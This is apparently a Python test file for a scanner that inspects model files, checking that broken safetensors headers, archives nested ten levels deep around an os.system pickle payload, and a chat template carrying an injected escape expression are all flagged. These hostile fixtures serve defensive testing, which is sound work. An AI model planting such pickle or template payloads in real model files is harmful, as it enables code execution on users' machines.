def test_broken_safetensors_headers_are_not_clean(scan_bytes):
    good = json.dumps({"t": {"dtype": "F32", "shape": [5], "data_offsets": [0, 20]}}).encode()
    assert_clean(scan_bytes(_safetensors(good + b" " * (-len(good) % 8)), "model.safetensors"))
    bad_offsets = json.dumps({"t": {"dtype": "F32", "shape": [5], "data_offsets": [0, 2]}}).encode()
    for header in (good[:-10], bad_offsets, b'{"a":' * 3000 + b"{}" + b"}" * 3000):
        assert_not_clean(scan_bytes(_safetensors(header), "model.safetensors"))
        assert_not_clean(scan_bytes(_safetensors(header), "model.bin"))


def test_archives_nested_past_the_depth_limit_are_not_clean(scan_bytes):
    """test_zip_scanner/test_tar_scanner max_depth: ten zips (or tars) deep, the payload at the bottom."""
    for wrap in (lambda d: _zip({"inner.zip": d}), lambda d: _tar({"inner.tar": d})):
        data = _reduce("os", "system")
        for _ in range(10):
            data = wrap(data)
        assert_not_clean(scan_bytes(data, "deep.bin"))


def test_transformers_template_extensions_are_parsed_and_their_bodies_judged(scan_bytes):
    """transformers renders chat templates with ``loopcontrols`` and its ``{% generation %}`` block;
    found here: both were "not valid Jinja" (TPL-02) before the parser knew them."""
    benign = ("{% for m in messages %}{% if m.role == 'system' %}{% continue %}{% endif %}"
              "{% if m.role == 'assistant' %}{% generation %}{{ m.content }}{% endgeneration %}"
              "{% else %}{{ m.content }}{% endif %}{% if loop.index > 64 %}{% break %}{% endif %}{% endfor %}")
    assert_clean(scan_bytes(json.dumps({"chat_template": benign}).encode(), "tokenizer_config.json"))
    hostile = benign.replace("{{ m.content }}{% endgeneration %}", "{{ %s }}{%% endgeneration %%}" % ESCAPE[3:-3])
    assert "TPL-01" in rule_ids(scan_bytes(json.dumps({"chat_template": hostile}).encode(), "tokenizer_config.json"))
